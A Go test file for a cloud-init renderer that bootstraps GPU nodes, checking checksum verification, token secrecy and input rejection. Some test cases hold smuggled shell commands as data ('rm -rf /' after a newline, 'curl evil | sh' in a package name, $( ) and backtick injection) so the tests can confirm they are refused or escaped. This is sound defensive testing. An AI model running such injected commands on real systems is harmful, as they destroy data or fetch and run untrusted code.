package cloudinit_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/warmfleet/warmfleet/adapters/capacity/cloudinit"
	"github.com/warmfleet/warmfleet/deploy"
	"github.com/warmfleet/warmfleet/schemas"
)

var update = flag.Bool("update", false, "rewrite deploy/cloud-init/example-user-data.yaml from the renderer")

// What a test reads back: cloud-init's schema, spelled independently of
// the renderer's own types.
type userData struct {
	PackageUpdate bool       `yaml:"package_update"`
	Packages      []string   `yaml:"packages"`
	WriteFiles    []fileSpec `yaml:"write_files"`
	Runcmd        [][]string `yaml:"runcmd"`
}

type fileSpec struct {
	Path        string `yaml:"path"`
	Owner       string `yaml:"owner"`
	Permissions string `yaml:"permissions"`
	Encoding    string `yaml:"encoding"`
	Content     string `yaml:"content"`
}

const (
	testToken = "wf-enroll-SECRET-0123456789abcdefXYZ"
	testSHA   = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

func bootstrap() schemas.NodeBootstrap {
	return schemas.NodeBootstrap{
		ControlPlaneURL: "nats://cp.example:4222", NodeID: "gpu-1", RentalID: "r-1", Generation: 3,
		// Bytes a shell or YAML would love to reinterpret.
		EnrollmentToken: testToken, ExpiresAt: time.Date(2026, 12, 3, 7, 0, 0, 123, time.UTC), AgentVersion: "v1 '$(x)`\"\n",
	}
}

func parse(t testing.TB, out []byte) userData {
	t.Helper()
	if !bytes.HasPrefix(out, []byte("#cloud-config\n")) {
		t.Fatalf("user data does not start with #cloud-config: %.40q", out)
	}
	var u userData
	if err := yaml.Unmarshal(out, &u); err != nil {
		t.Fatalf("rendered user data is not YAML: %v", err)
	}
	return u
}

func file(t testing.TB, u userData, path string) fileSpec {
	t.Helper()
	for _, f := range u.WriteFiles {
		if f.Path == path {
			return f
		}
	}
	t.Fatalf("write_files has no %s", path)
	return fileSpec{}
}

func runcmd(t testing.TB, u userData) string {
	t.Helper()
	if len(u.Runcmd) != 1 || len(u.Runcmd[0]) != 4 || u.Runcmd[0][0] != "bash" || u.Runcmd[0][1] != "-c" {
		t.Fatalf("runcmd is not one bash -c script: %q", u.Runcmd)
	}
	return u.Runcmd[0][2]
}

func TestRenderDeliversBootstrapByteForByte(t *testing.T) {
	b := bootstrap()
	out, err := cloudinit.Render(b, cloudinit.Options{AgentURL: "https://dl.example/warmfleet-agent", AgentSHA256: testSHA, InstallContainerd: true})
	if err != nil {
		t.Fatal(err)
	}
	u := parse(t, out)
	f := file(t, u, cloudinit.BootstrapPath)
	if f.Owner != "root:root" || f.Permissions != "0600" || f.Encoding != "b64" {
		t.Errorf("bootstrap file: owner %q permissions %q encoding %q; want root:root 0600 b64", f.Owner, f.Permissions, f.Encoding)
	}
	got, err := base64.StdEncoding.DecodeString(f.Content)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(b)
	if !bytes.Equal(got, want) {
		t.Errorf("bootstrap content\n%s\nwant\n%s", got, want)
	}
	var back schemas.NodeBootstrap
	if err := json.Unmarshal(got, &back); err != nil || back != b {
		t.Errorf("bootstrap decodes to %+v (%v), want %+v", back, err, b)
	}
	unit := file(t, u, cloudinit.UnitPath)
	if unit.Content != deploy.AgentUnit || unit.Permissions != "0644" || unit.Owner != "root:root" || unit.Encoding != "" {
		t.Errorf("unit file %+v is not deploy/systemd/warmfleet-agent.service at 0644", unit)
	}
	if !u.PackageUpdate || strings.Join(u.Packages, " ") != "ca-certificates curl containerd runc" {
		t.Errorf("packages %v (update %v)", u.Packages, u.PackageUpdate)
	}
}

func TestRuncmdChecksTheAgentAndNeverCarriesTheToken(t *testing.T) {
	b := bootstrap()
	out, err := cloudinit.Render(b, cloudinit.Options{AgentURL: "https://dl.example/warmfleet-agent", AgentSHA256: strings.ToUpper(testSHA)})
	if err != nil {
		t.Fatal(err)
	}
	u := parse(t, out)
	cmd := runcmd(t, u)
	for _, want := range []string{"set -euo pipefail", "sha256sum -c", "agent_sha256=" + testSHA, "systemctl enable --now warmfleet-agent.service"} {
		if !strings.Contains(cmd, want) {
			t.Errorf("runcmd lacks %q:\n%s", want, cmd)
		}
	}
	if i, j := strings.Index(cmd, "sha256sum -c"), strings.Index(cmd, "systemctl enable"); i > j {
		t.Errorf("runcmd starts the agent before checking it")
	}
	// The token appears nowhere in the clear; its only copy is the
	// base64 content of the bootstrap file.
	if bytes.Contains(out, []byte(testToken)) || bytes.Contains(out, []byte("SECRET")) {
		t.Errorf("user data carries the token in the clear:\n%s", out)
	}
	other := b
	other.EnrollmentToken, other.NodeID = "another-token", "gpu-2"
	out2, err := cloudinit.Render(other, cloudinit.Options{AgentURL: "https://dl.example/warmfleet-agent", AgentSHA256: testSHA})
	if err != nil {
		t.Fatal(err)
	}
	if runcmd(t, parse(t, out2)) != cmd {
		t.Errorf("runcmd depends on the bootstrap")
	}
	pre, err := cloudinit.Render(b, cloudinit.Options{AgentPreinstalled: true})
	if err != nil {
		t.Fatal(err)
	}
	pu := parse(t, pre)
	if c := runcmd(t, pu); strings.Contains(c, "curl") || !strings.Contains(c, "systemctl enable --now") {
		t.Errorf("preinstalled agent: runcmd\n%s", c)
	}
	if pu.PackageUpdate || len(pu.Packages) != 0 {
		t.Errorf("preinstalled agent installs %v", pu.Packages)
	}
}

func TestBadInputIsRefusedNamingTheField(t *testing.T) {
	url := "https://dl.example/warmfleet-agent"
	cases := []struct {
		name  string
		o     cloudinit.Options
		code  schemas.Code
		field string
	}{
		{"no agent", cloudinit.Options{}, schemas.CodeMissingField, "agent_url"},
		{"both", cloudinit.Options{AgentURL: url, AgentSHA256: testSHA, AgentPreinstalled: true}, schemas.CodeMalformed, "agent_url"},
		{"sha with preinstalled", cloudinit.Options{AgentSHA256: testSHA, AgentPreinstalled: true}, schemas.CodeMalformed, "agent_sha256"},
		{"unpinned", cloudinit.Options{AgentURL: url}, schemas.CodeMissingField, "agent_sha256"},
		{"short sha", cloudinit.Options{AgentURL: url, AgentSHA256: testSHA[:63]}, schemas.CodeInvalidDigest, "agent_sha256"},
		{"not hex", cloudinit.Options{AgentURL: url, AgentSHA256: strings.Repeat("g", 64)}, schemas.CodeInvalidDigest, "agent_sha256"},
		{"ftp", cloudinit.Options{AgentURL: "ftp://dl.example/a", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"credentials", cloudinit.Options{AgentURL: "https://me:hunter2@dl.example/a", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"space", cloudinit.Options{AgentURL: "https://dl.example/a b", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"newline", cloudinit.Options{AgentURL: "https://dl.example/a\nrm -rf /", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"no host", cloudinit.Options{AgentURL: "https:///a", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"fragment", cloudinit.Options{AgentURL: url + "#x", AgentSHA256: testSHA}, schemas.CodeMalformed, "agent_url"},
		{"long", cloudinit.Options{AgentURL: url + "/" + strings.Repeat("a", cloudinit.MaxURLLength), AgentSHA256: testSHA}, schemas.CodeValueTooLong, "agent_url"},
		{"package", cloudinit.Options{AgentPreinstalled: true, Packages: []string{"jq", "jq; curl evil | sh"}}, schemas.CodeMalformed, "packages[1]"},
		{"package flag", cloudinit.Options{AgentPreinstalled: true, Packages: []string{"-y"}}, schemas.CodeMalformed, "packages[0]"},
		{"many packages", cloudinit.Options{AgentPreinstalled: true, Packages: make([]string, cloudinit.MaxPackages+1)}, schemas.CodeTooManyItems, "packages"},
	}
	for _, c := range cases {
		_, err := cloudinit.Render(bootstrap(), c.o)
		var r *schemas.Refusal
		if !errors.As(err, &r) || r.Code != c.code || r.Field != c.field {
			t.Errorf("%s: got %v, want %s on %s", c.name, err, c.code, c.field)
			continue
		}
		if strings.Contains(err.Error(), "hunter2") || strings.Contains(err.Error(), "rm -rf") {
			t.Errorf("%s: refusal repeats the value: %v", c.name, err)
		}
		if _, err := cloudinit.Script(bootstrap(), c.o); !errors.Is(err, &schemas.Refusal{Code: c.code, Field: c.field}) {
			t.Errorf("%s: Script took options Render refused: %v", c.name, err)
		}
	}
	for _, ok := range []cloudinit.Options{
		{AgentURL: "http://10.0.0.1:8080/warmfleet-agent?X-Amz-Signature=abc", AgentSHA256: testSHA, Packages: []string{"jq", "nvidia-driver-550=550.1-0ubuntu1", "g++"}},
		{AgentPreinstalled: true, InstallContainerd: true, NVIDIAContainerToolkit: true},
	} {
		if _, err := cloudinit.Render(bootstrap(), ok); err != nil {
			t.Errorf("%+v refused: %v", ok, err)
		}
	}

	bad := map[string]func(*schemas.NodeBootstrap){
		"control_plane_url": func(b *schemas.NodeBootstrap) { b.ControlPlaneURL = "" },
		"node_id":           func(b *schemas.NodeBootstrap) { b.NodeID = "a b\n" },
		"rental_id":         func(b *schemas.NodeBootstrap) { b.RentalID = "r/1" },
		"generation":        func(b *schemas.NodeBootstrap) { b.Generation = 0 },
		"enrollment_token":  func(b *schemas.NodeBootstrap) { b.EnrollmentToken = "" },
	}
	for field, spoil := range bad {
		b := bootstrap()
		spoil(&b)
		_, err := cloudinit.Render(b, cloudinit.Options{AgentPreinstalled: true})
		var r *schemas.Refusal
		if !errors.As(err, &r) || r.Field != field {
			t.Errorf("bootstrap without a good %s: %v", field, err)
		}
		if err != nil && strings.Contains(err.Error(), testToken) {
			t.Errorf("refusal carries the token: %v", err)
		}
	}
}

// machine plays cloud-init on a temp root: write_files, then runcmd under
// WARMFLEET_ROOT. It returns the root, runcmd's combined output and error.
func machine(t *testing.T, u userData) (string, string, error) {
	t.Helper()
	return machineEnv(t, u)
}

// machineEnv is machine with extra environment (KEY=VALUE) for runcmd.
func machineEnv(t *testing.T, u userData, env ...string) (string, string, error) {
	t.Helper()
	root := t.TempDir()
	for _, f := range u.WriteFiles {
		content := []byte(f.Content)
		if f.Encoding == "b64" {
			var err error
			if content, err = base64.StdEncoding.DecodeString(f.Content); err != nil {
				t.Fatal(err)
			}
		}
		mode, err := strconv.ParseUint(f.Permissions, 8, 32)
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(root, f.Path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, content, os.FileMode(mode)); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.Command("bash", "-c", runcmd(t, u), "warmfleet-bootstrap")
	cmd.Dir = root
	cmd.Env = append(append(os.Environ(), "WARMFLEET_ROOT="+root), env...)
	out, err := cmd.CombinedOutput()
	return root, string(out), err
}

func needTools(t *testing.T) {
	for _, tool := range []string{"bash", "curl", "sha256sum", "install", "mktemp"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s here: %v", tool, err)
		}
	}
}

// agentServer serves body at any path and counts requests.
func agentServer(t *testing.T, body []byte) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(body) }))
	t.Cleanup(srv.Close)
	return srv
}

func mode(t *testing.T, p string) os.FileMode {
	t.Helper()
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode().Perm()
}

func TestRuncmdInstallsTheCheckedAgent(t *testing.T) {
	needTools(t)
	agent := []byte("#!/bin/sh\necho fake agent\n")
	sum := sha256.Sum256(agent)
	srv := agentServer(t, agent)
	// A URL the shell must not reinterpret: quotes, $( ), backticks.
	url := srv.URL + "/dl/'$(touch${IFS}pwned)'`touch${IFS}pwned2`/warmfleet-agent"
	out, err := cloudinit.Render(bootstrap(), cloudinit.Options{AgentURL: url, AgentSHA256: hex.EncodeToString(sum[:])})
	if err != nil {
		t.Fatal(err)
	}
	root, log, err := machine(t, parse(t, out))
	if err != nil {
		t.Fatalf("runcmd: %v\n%s", err, log)
	}
	if strings.Contains(log, testToken) {
		t.Errorf("runcmd output carries the token: %s", log)
	}
	bin := filepath.Join(root, cloudinit.AgentPath)
	if got, err := os.ReadFile(bin); err != nil || !bytes.Equal(got, agent) {
		t.Fatalf("agent %q (%v), want %q", got, err, agent)
	}
	if m := mode(t, bin); m != 0o755 {
		t.Errorf("agent mode %v, want 0755", m)
	}
	boot := filepath.Join(root, cloudinit.BootstrapPath)
	if m := mode(t, boot); m != 0o600 {
		t.Errorf("bootstrap mode %v, want 0600", m)
	}
	if m := mode(t, filepath.Dir(boot)); m != 0o700 {
		t.Errorf("bootstrap directory mode %v, want 0700", m)
	}
	for _, p := range []string{"pwned", "pwned2"} {
		if _, err := os.Stat(filepath.Join(root, p)); err == nil {
			t.Errorf("the agent URL ran a command (%s exists)", p)
		}
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(bin), ".warmfleet-agent.*")); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// fakeNvidiaCtk puts an nvidia-ctk on a PATH of its own that records its
// arguments in the file --output names, or fails when fail is set; it
// returns the PATH to run with.
func fakeNvidiaCtk(t *testing.T, fail bool) string {
	t.Helper()
	bin := t.TempDir()
	body := "#!/bin/sh\nfor a; do case \"$a\" in --output=*) out=\"${a#--output=}\";; esac; done\necho \"generated by: $*\" > \"$out\"\n"
	if fail {
		body = "#!/bin/sh\necho 'nvidia-ctk: no driver' >&2\nexit 1\n"
	}
	if err := os.WriteFile(filepath.Join(bin, "nvidia-ctk"), []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	return "PATH=" + bin + ":" + os.Getenv("PATH")
}

func TestRuncmdGeneratesTheCDISpecBeforeStartingTheAgent(t *testing.T) {
	needTools(t)
	out, err := cloudinit.Render(bootstrap(), cloudinit.Options{AgentPreinstalled: true, NVIDIAContainerToolkit: true})
	if err != nil {
		t.Fatal(err)
	}
	u := parse(t, out)
	cmd := runcmd(t, u)
	gen, start := strings.Index(cmd, "nvidia-ctk cdi generate --output="), strings.Index(cmd, "systemctl enable --now")
	if gen < 0 || start < 0 || gen > start {
		t.Fatalf("runcmd does not generate the CDI spec before starting the agent:\n%s", cmd)
	}
	if !strings.Contains(file(t, u, cloudinit.UnitPath).Content, "nvidia-ctk cdi generate --output=/var/run/cdi/nvidia.yaml") {
		t.Errorf("the agent's unit does not regenerate the CDI spec at start")
	}

	root, log, err := machineEnv(t, u, fakeNvidiaCtk(t, false))
	if err != nil {
		t.Fatalf("runcmd: %v\n%s", err, log)
	}
	spec, err := os.ReadFile(filepath.Join(root, "var/run/cdi/nvidia.yaml"))
	if err != nil || !strings.HasPrefix(string(spec), "generated by: cdi generate --output=") {
		t.Fatalf("CDI spec %q (%v), want nvidia-ctk's output", spec, err)
	}

	// Without nvidia-ctk nothing is generated and nothing fails.
	root, log, err = machineEnv(t, u, "PATH=/usr/bin:/bin")
	if err != nil {
		t.Fatalf("runcmd without nvidia-ctk: %v\n%s", err, log)
	}
	if _, err := os.Stat(filepath.Join(root, "var/run/cdi")); err == nil {
		t.Errorf("a CDI directory was made without nvidia-ctk")
	}

	// A failing nvidia-ctk is said, and the agent is still started.
	_, log, err = machineEnv(t, u, fakeNvidiaCtk(t, true))
	if err != nil || !strings.Contains(log, "nvidia-ctk cdi generate failed") {
		t.Fatalf("failing nvidia-ctk: %v\n%s", err, log)
	}
}

func TestRuncmdRefusesAMismatchedAgent(t *testing.T) {
	needTools(t)
	srv := agentServer(t, []byte("#!/bin/sh\necho tampered\n"))
	out, err := cloudinit.Render(bootstrap(), cloudinit.Options{AgentURL: srv.URL + "/warmfleet-agent", AgentSHA256: testSHA})
	if err != nil {
		t.Fatal(err)
	}
	root, log, err := machine(t, parse(t, out))
	if err == nil {
		t.Fatalf("runcmd accepted an agent that does not match its sha256:\n%s", log)
	}
	if !strings.Contains(log, "does not match agent_sha256") {
		t.Errorf("runcmd output does not say why: %s", log)
	}
	bin := filepath.Join(root, cloudinit.AgentPath)
	if _, err := os.Stat(bin); err == nil {
		t.Errorf("mismatched agent installed at %s", bin)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(bin), ".warmfleet-agent.*")); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func TestScriptDeliversBootstrapAndAgent(t *testing.T) {
	needTools(t)
	agent := []byte("agent-binary")
	sum := sha256.Sum256(agent)
	srv := agentServer(t, agent)
	b := bootstrap()
	script, err := cloudinit.Script(b, cloudinit.Options{AgentURL: srv.URL + "/a", AgentSHA256: hex.EncodeToString(sum[:])})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(script, testToken) {
		t.Errorf("script carries the token in the clear")
	}
	root := t.TempDir()
	cmd := exec.Command("bash", "-s")
	cmd.Env = append(os.Environ(), "WARMFLEET_ROOT="+root)
	cmd.Stdin = strings.NewReader(script)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("script: %v\n%s", err, out)
	}
	want, _ := json.Marshal(b)
	if got, err := os.ReadFile(filepath.Join(root, cloudinit.BootstrapPath)); err != nil || !bytes.Equal(got, want) {
		t.Errorf("bootstrap %q (%v), want %q", got, err, want)
	}
	if got, err := os.ReadFile(filepath.Join(root, cloudinit.AgentPath)); err != nil || !bytes.Equal(got, agent) {
		t.Errorf("agent %q (%v)", got, err)
	}
}

// exampleBootstrap and exampleOptions render deploy/cloud-init's example.
// Every value is a placeholder.
var (
	exampleBootstrap = schemas.NodeBootstrap{
		ControlPlaneURL: "nats://cp.example.net:4222", NodeID: "gpu-node-1", RentalID: "rental-1", Generation: 1,
		EnrollmentToken: "PLACEHOLDER-enrollment-token-from-warmfleet-node-invite",
		ExpiresAt:       time.Date(2026, 1, 1, 0, 15, 0, 0, time.UTC),
	}
	exampleOptions = cloudinit.Options{
		AgentURL:          "https://downloads.example.net/warmfleet/v0.1.0/warmfleet-agent-linux-amd64",
		AgentSHA256:       strings.Repeat("0", 64),
		InstallContainerd: true,
	}
)

const examplePath = "../../../deploy/cloud-init/example-user-data.yaml"

// TestExampleUserDataIsCurrent keeps the committed example equal to what
// the renderer writes; go generate (or -update) rewrites it.
func TestExampleUserDataIsCurrent(t *testing.T) {
	out, err := cloudinit.Render(exampleBootstrap, exampleOptions)
	if err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile(examplePath, out, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(examplePath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, out) {
		t.Errorf("%s is stale; run `go generate ./adapters/capacity/cloudinit`", examplePath)
	}
}
